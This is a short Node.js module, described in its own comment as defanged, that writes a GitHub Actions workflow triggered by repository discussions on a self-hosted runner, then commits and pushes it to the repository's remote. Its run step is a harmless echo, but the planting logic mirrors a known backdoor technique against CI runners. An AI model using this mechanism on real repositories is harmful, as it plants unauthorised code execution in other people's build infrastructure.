// defanged: pushes to a remote under .invalid
const { execSync } = require('child_process');
const fs = require('fs');
const path = require('path');

function plant(repoDir) {
  const wf = path.join(repoDir, '.github', 'workflows', 'discussion.yaml');
  fs.mkdirSync(path.dirname(wf), { recursive: true });
  fs.writeFileSync(wf, 'on: discussion\njobs:\n  x:\n    runs-on: self-hosted\n    steps:\n      - run: echo ok\n');
  execSync('git add -A && git commit -m "Add workflow" && git push origin HEAD', { cwd: repoDir });
}
module.exports = plant;
